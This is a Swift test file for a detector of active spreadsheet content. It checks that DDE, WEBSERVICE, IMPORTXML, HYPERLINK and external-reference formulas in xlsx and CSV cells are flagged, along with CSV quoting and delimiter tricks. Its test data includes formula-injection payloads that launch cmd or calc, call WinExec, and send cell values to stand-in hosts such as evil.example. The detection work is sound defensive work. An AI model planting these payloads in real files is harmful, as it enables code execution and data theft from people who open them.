import Testing

@testable import Inspection

/// Spreadsheet formulas that fetch, run or link out: one rule set for xlsx cells and CSV or text cells.
struct FormulaTests {
    @Test(arguments: [
        "cmd|' /C calc'!A0", "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''", "SUM(1)+cmd|'/c notepad'!B2",
        "_xlfn.IMAGE(\"https://tracker.example/p.png\")", "webservice(\"http://x.example/?\"&A1)", "RTD(\"x.y\",,\"z\")",
        "CALL(\"kernel32\",\"WinExec\",\"JCJ\",\"calc\",0)",
        "REGISTER.ID(\"a\",\"b\")", "DDE(\"cmd\";\"/c calc\";\"x\")", "HYPERLINK(\"\\\\host\\share\\doc.lnk\",\"open\")",
        "HYPERLINK(\"file:///C:/x.exe\")",
        "HYPERLINK(\"ms-msdt:/id PCWDiagnostic\")", "HYPERLINK(A1,\"x\")", "'\\\\host\\share\\[x.xlsx]Sheet1'!A1", "[book.xlsx]Sheet1!A1",
        "[1]Sheet1!A1",
        "SUM('C:\\data\\[a.xlsx]S'!A1:A3)", "cmd|' /C calc'", "Excel|Book1!R1C1", "'https://h.example/[x.xlsx]S'!A1",
    ])
    func activeFormulasAreFound(_ formula: String) {
        #expect(OOXMLParts.formulaProblem(formula) != nil, "\(formula)")
    }

    @Test(arguments: [
        "SUM(A1:A2)", "'My Sheet'!A1+'It''s'!B2", "Table1[[#This Row],[Amount]]*2", "SUM(Table1[Amount])", "HYPERLINK(\"https://example.com\",\"x\")",
        "HYPERLINK(\"#Sheet2!A1\")", "HYPERLINK(\"mailto:a@example.com\")", "\"IMAGE(\"&A1", "CONCAT(\"a|b\",\"!\")", "MYIMAGE(1)+CALLS",
        "IF(A1>0,\"|\",\"!\")",
    ])
    func ordinaryFormulasAreClean(_ formula: String) {
        #expect(OOXMLParts.formulaProblem(formula) == nil, "\(formula) -> \(OOXMLParts.formulaProblem(formula) ?? "")")
    }

    @Test func csvCellsAreJudgedAsFormulas() {
        for csv in [
            "a,b\n1,=cmd|' /C calc'!A0\n", "a;b\n1;\"=HYPERLINK(\"\"\\\\evil\\s\\x\"\",\"\"go\"\")\"\n", "a\t b\n x\t @SUM(1)*cmd|'/c calc'!A1\n",
            "x, +WEBSERVICE(\"http://e.example/\"&A1)\n", "x,-_xlfn.IMAGE(\"http://e.example/t.png\")\n", "x,\"  =[evil.xlsx]S!A1\"\n",
            "n,\"multi\nline\",=RTD(\"a\",,\"b\")\n",
        ] {
            #expect(!TextActiveContent.findings(in: Array(csv.utf8), csv: true).isEmpty, "\(csv)")
            // CSV often arrives as .txt: read the same way.
            #expect(!TextActiveContent.findings(in: Array(csv.utf8)).isEmpty, "\(csv)")
        }
        for csv in ["id,f\n1,=SUM(A1:A2)\n2,-5\n3,+1\n4,@home\n", "x,\"=A1&\"\"|\"\"&B1\"\n", "a,b\n=====,=====\n"] {
            #expect(TextActiveContent.findings(in: Array(csv.utf8), csv: true).isEmpty, "\(csv)")
        }
        // Prose bullets and mentions are not formulas unless a call starts them.
        for text in ["- call(x) now retries\n- image(s) are cached | see notes!\n", "@see call(x)\n", "+ added IMAGE(...) support\n"] {
            #expect(TextActiveContent.findings(in: Array(text.utf8)).isEmpty, "\(text) -> \(TextActiveContent.findings(in: Array(text.utf8)))")
        }
        #expect(!TextActiveContent.findings(in: Array("- cmd|' /C calc'!A0\n".utf8)).isEmpty)
        #expect(!TextActiveContent.findings(in: Array("@x | 'calc'\n".utf8)).isEmpty)
    }

    /// Re-attack 15b: Google Sheets and LibreOffice fetchers, fetching calls after the first operand in plain text,
    /// and prose that only looks like DDE or an external reference.
    @Test func fetchersAnywhereAndProseShapes() {
        for formula in [
            "IMPORTXML(\"http://e.example/\",\"//a\")", "_xlfn.importdata(A1)", "IMPORTHTML(A1,\"table\",1)", "ImportFeed(A1)",
            "IMPORTRANGE(A1,\"S!A1\")",
        ] {
            #expect(OOXMLParts.formulaProblem(formula) != nil, "\(formula)")
        }
        for csv in ["a,b\nsecret,\"=IMPORTXML(CONCAT(\"\"http://e.example/?\"\",A2),\"\"//a\"\")\"\n", "x,=IMPORTDATA(\"http://e.example/\"&A1)\n"] {
            #expect(!TextActiveContent.findings(in: Array(csv.utf8), csv: true).isEmpty, "\(csv)")
        }
        for text in [
            "total\n- WEBSERVICE(\"http://e.example/?\"&A1)\n", "total\n+0+WEBSERVICE(\"http://e.example/?\"&A1)\n", "@a & IMPORTXML(A1,\"//a\")\n",
            "- 1+IMAGE(\"http://e.example/t.png\")\n", "- x*RTD(\"a\",,\"b\")\n", "- notes cmd|calc!A0\n", "- x [book.xlsx]Sheet1!A1\n",
        ] {
            #expect(!TextActiveContent.findings(in: Array(text.utf8)).isEmpty, "\(text)")
        }
        for text in [
            "# Usage\n\n- echo 'a' | 'tr' a-z A-Z\n- [x]Done! merged\n", "- [ ]Todo! later\n", "- a | b\n", "- see image(s) later\n",
            "- we call(x) then exec(y)\n",
        ] {
            #expect(TextActiveContent.findings(in: Array(text.utf8)).isEmpty, "\(text) -> \(TextActiveContent.findings(in: Array(text.utf8)))")
        }
    }

    /// Round 2: a quote after blanks opens a quoted cell for some readers and is text for Excel and RFC 4180 readers,
    /// which then split at the commas inside: cells are read both ways.
    @Test func quotesAfterBlanksAreReadBothWays() {
        let payloads = [
            "=cmd|' /C calc'!A0", "=HYPERLINK(\"\\\\evil\\s\\x.exe\",\"go\")", "@SUM(1)*cmd|'/c calc'!A1", "=IMPORTXML(A1,\"//a\")",
            "+WEBSERVICE(\"http://e.example/\")",
        ]
        for payload in payloads {
            for lead in [" ", "  "] {
                for delimiter in [",", ";", "\t"] {
                    let csv = "name\(delimiter)comment\n\(lead)\"abc\(delimiter)\(payload)\(delimiter)\"\n"
                    #expect(!TextActiveContent.findings(in: Array(csv.utf8), csv: true).isEmpty, "\(csv.debugDescription)")
                }
            }
        }
        // The same quoted text read either way holds no active cell.
        for csv in [
            "name,note\n \"Smith, -3 (est.)\",x\n", " \"hello, =SUM(A1:A2)\",\"a, b\"\n", "a,b\n \"x; +1\", \"@bob, -2\"\n",
            "name,delta,handle,note\nAlice,-5,@alice,\"-3 (est.)\"\nBob,+2,@bob (ops),-1\n",
        ] {
            #expect(
                TextActiveContent.findings(in: Array(csv.utf8), csv: true).isEmpty,
                "\(csv.debugDescription) -> \(TextActiveContent.findings(in: Array(csv.utf8), csv: true))"
            )
        }
    }

    /// Round 2: LibreOffice's external document reference (`'file:///…'#$Sheet.A1`) and IMAGE with a cell reference.
    @Test func libreOfficeReferencesAndImageSources() {
        for reference in ["'file:///etc/passwd'#$passwd.A1", "'https://h.example/x.ods'#Sheet1.A1", "'\\\\h\\s\\x.ods'#$S.A1", "'/etc/x.ods'#$S.B2"] {
            for formula in [reference, "1+\(reference)", "HYPERLINK(\"http://e.example/?\"&\(reference),\"Click\")"] {
                #expect(OOXMLParts.formulaProblem(formula) != nil, "\(formula)")
                let csv = "a,b\n1,\"=\(formula.replacing("\"", with: "\"\""))\"\n"
                #expect(!TextActiveContent.findings(in: Array(csv.utf8), csv: true).isEmpty, "\(csv)")
            }
        }
        for formula in ["A1&\"#\"&B1", "'Sheet 1'.A1", "$'My Sheet'.B2+1", "\"'x'#1\"", "'It''s'#"] {
            #expect(OOXMLParts.formulaProblem(formula) == nil, "\(formula) -> \(OOXMLParts.formulaProblem(formula) ?? "")")
        }
        for text in ["- 1+IMAGE(A1)\n", "+0+IMAGE($B$2)\n", "- x*IMAGE(Sheet1!C3)\n", "- 1+IMAGE(CONCAT(A1,B1))\n", "@a+image(ab12)\n"] {
            #expect(!TextActiveContent.findings(in: Array(text.utf8)).isEmpty, "\(text)")
        }
        for text in ["- see image(s) later\n", "- 1+IMAGE(optional)\n", "- 2+image(A)\n", "- 3+image(12)\n"] {
            #expect(TextActiveContent.findings(in: Array(text.utf8)).isEmpty, "\(text) -> \(TextActiveContent.findings(in: Array(text.utf8)))")
        }
    }

    /// Round 2: Excel's `sep=` line declares the delimiter (read with and without it), and INDIRECT reaches another
    /// document through a string.
    @Test func declaredSeparatorsAndIndirectReferences() {
        for separator in ["|", ":", " ", "!"] {
            let csv = "sep=\(separator)\nname\(separator)link\nx\(separator)=HYPERLINK(\"\\\\evil\\s\\x.exe\")\n"
            #expect(!TextActiveContent.findings(in: Array(csv.utf8), csv: true).isEmpty, "\(csv.debugDescription)")
            #expect(!TextActiveContent.findings(in: [0xEF, 0xBB, 0xBF] + Array(csv.utf8), csv: true).isEmpty, "\(csv.debugDescription)")
        }
        // A reader that ignores the line still splits at commas: the DDE cell is found either way.
        #expect(!TextActiveContent.findings(in: Array("sep=|\na,=cmd|' /C calc'!A0\n".utf8), csv: true).isEmpty)
        #expect(TextActiveContent.findings(in: Array("sep=|\na|b|=SUM(A1:A2)|-3\n".utf8), csv: true).isEmpty)
        for formula in [
            "INDIRECT(\"'file:///etc/passwd'#$passwd.A1\")", "1+indirect(\"[x.xlsx]S!A1\")", "INDIRECT(\"'\\\\h\\s\\[x.xls]S'!A1\")",
            "\"'https://h.example/x.ods'#$S.A1\"&INDIRECT(A1)",
            // Since attack round 12 a reference computed from cells or calls is refused too: a cell can spell another
            // document as well as a string can.
            "INDIRECT(\"Sheet1!A\"&ROW())", "INDIRECT(A1)",
        ] {
            #expect(OOXMLParts.formulaProblem(formula) != nil, "\(formula)")
        }
        for formula in ["INDIRECT(\"'My Sheet'!B2\")", "\"file:x\"&A1", "INDIRECT(\"Sheet1!A\"&7)"] {
            #expect(OOXMLParts.formulaProblem(formula) == nil, "\(formula) -> \(OOXMLParts.formulaProblem(formula) ?? "")")
        }
    }

    /// Round 3: Excel splits at exactly one delimiter, so a `;`, tab or `,` inside a cell must not open a quoted
    /// cell that hides the real formula cell; generated over delimiters, payloads and the `sep=` line.
    @Test func eachDelimiterIsReadAlone() {
        let payloads = [#"=cmd|' /C calc'!A0"#, #"=WEBSERVICE("http://evil.example/?"&A1)"#, #"=HYPERLINK("\\evil\s\x.exe","go")"#]
        for payload in payloads {
            for (real, inner) in [(",", ";"), (",", "\t"), (";", ","), ("\t", ";"), ("\t", ",")] {
                let csv = "id\(real)comment\(real)total\n1\(real)a\(inner)\"x\(real)\(payload)\(real)\"\(inner)b\n2\(real)ok\(real)3\n"
                #expect(!TextActiveContent.findings(in: Array(csv.utf8), csv: true).isEmpty, "\(csv.debugDescription)")
                #expect(!TextActiveContent.findings(in: Array(csv.utf8)).isEmpty, "\(csv.debugDescription)")
            }
            let declared = "sep=|\nid|comment|total\n1|a,\"x|\(payload)|\"|3\n"
            #expect(payload.contains("|") || !TextActiveContent.findings(in: Array(declared.utf8), csv: true).isEmpty, "\(declared.debugDescription)")
        }
        // Ordinary files with every delimiter in text stay clean.
        for csv in [
            "name;city;note\nAnn;\"Paris, France\";\"a, b; c\"\nBob;Rome;=SUM(A1:A2)\n", "a,b\tc;d\n\"x;y\",-3,\"+1, 2\"\n",
            "sep=;\na;b\n\"1,5\";=A1*2\n",
        ] {
            #expect(TextActiveContent.findings(in: Array(csv.utf8), csv: true).isEmpty, "\(csv.debugDescription)")
        }
    }

    /// Round 3: a quoted cell runs across lines in Excel; text that is CSV under another name is read both ways.
    @Test func quotedCellsSpanLines() {
        for payload in [#"=cmd|' /C calc'!A0"#, #"=WEBSERVICE("http://evil.example/?"&A2)"#, #"=HYPERLINK("\\evil\s\x.exe","Invoice")"#] {
            for break_ in ["\n", "\r\n", "\n\n"] {
                let csv = "name,note\nalice,\"first line\(break_)\",\(payload)\nbob,ok\n"
                #expect(!TextActiveContent.findings(in: Array(csv.utf8), csv: true).isEmpty, "\(csv.debugDescription)")
                #expect(!TextActiveContent.findings(in: Array(csv.utf8)).isEmpty, "\(csv.debugDescription)")
            }
        }
        // Multi-line addresses and notes are ordinary.
        let addresses = "name,address,total\nAnn,\"1 Main St\nSpringfield, IL\",=SUM(C1:C2)\nBob,\"Flat 2\r\n\"\"The Mews\"\"\",-4\n"
        #expect(TextActiveContent.findings(in: Array(addresses.utf8), csv: true).isEmpty)
        #expect(TextActiveContent.findings(in: Array(addresses.utf8)).isEmpty)
        // CSV rules follow the name or the declared type whatever libmagic says.
        #expect(Inspector.isNamedCSV(filename: "Report.CSV", declaredType: nil))
        #expect(Inspector.isNamedCSV(filename: "x.tsv", declaredType: nil))
        #expect(Inspector.isNamedCSV(filename: "x.txt", declaredType: "text/csv; charset=utf-8"))
        #expect(!Inspector.isNamedCSV(filename: "notes.txt", declaredType: "text/plain"))
    }

    /// Round 4: a carriage return ends a row everywhere, after a quoted cell too (classic Mac line ends, which Excel
    /// and LibreOffice split at); also in UTF-16 tab-separated text.
    @Test func carriageReturnsEndRowsAfterQuotedCells() {
        func utf16(_ text: String) -> [UInt8] { [0xFF, 0xFE] + text.utf16.flatMap { [UInt8($0 & 0xFF), UInt8($0 >> 8)] } }
        for payload in [#"=cmd|' /C calc'!A0"#, #"=WEBSERVICE("http://evil.example/?"&A2)"#, #"=HYPERLINK("file:///c:/x.exe","Invoice")"#] {
            for csv in [
                "name,note\r\"alice\",\"ok\"\r\(payload)\r", "a;b\r\"x\";\"y\"\r\(payload)\r", "name,note\r\"alice\" tail\r\(payload)\r",
                "name,note\r\"alice\"\r\n\(payload)\r\n",
            ] {
                #expect(!TextActiveContent.findings(in: Array(csv.utf8), csv: true).isEmpty, "\(csv.debugDescription)")
                #expect(!TextActiveContent.findings(in: Array(csv.utf8)).isEmpty, "\(csv.debugDescription)")
            }
            let tsv = "a\tb\r\"x\"\t\"y\"\r\(payload)\r"
            #expect(!TextActiveContent.findings(in: utf16(tsv), csv: true).isEmpty, "\(tsv.debugDescription)")
        }
        // Ordinary CR-only and CRLF files with quoted cells stay clean.
        for csv in [
            "name,note,total\r\"Smith, J.\",\"a \"\"quoted\"\" value\",-4\r\"Ann\",\"1 Main St\rSpringfield\",=SUM(C1:C2)\r",
            "name,note,total\r\n\"Smith, J.\",\"ok\",-4\r\n\"Bob\",\"(555) 123\",+3\r\n",
        ] {
            #expect(TextActiveContent.findings(in: Array(csv.utf8), csv: true).isEmpty, "\(csv.debugDescription)")
            #expect(TextActiveContent.findings(in: Array(csv.utf8)).isEmpty, "\(csv.debugDescription)")
            #expect(TextActiveContent.findings(in: utf16(csv), csv: true).isEmpty, "\(csv.debugDescription)")
        }
    }
}
